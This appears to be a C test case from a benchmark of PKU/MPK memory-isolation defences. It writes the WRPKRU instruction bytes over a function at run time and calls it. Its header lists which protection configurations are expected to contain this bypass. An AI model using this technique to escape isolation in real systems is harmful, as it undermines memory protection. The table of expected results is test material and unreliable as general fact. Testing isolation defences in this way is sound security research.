/*
{
  "title": "WRPKRU written over own code: code is read-only once it is loaded",
  "precondition": "CR4.PKE = 1",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (run-time generated code)",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "contained", "event": "exception"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"

static __attribute__((noinline)) void room(void) { __asm__ volatile("nop\n nop\n nop\n nop"); }

static void write_code(void) {
  static const uint8_t bytes[] = {0x0f, 0x01, 0xef, 0xc3};
  for (unsigned at = 0; at < sizeof bytes; at++) ((volatile uint8_t *)room)[at] = bytes[at];
  __asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(room) : "memory");
}

int main(void) {
  BYPASS_OF_KEYS(write_code());
  GOAL_COUNT();
  return 0;
}
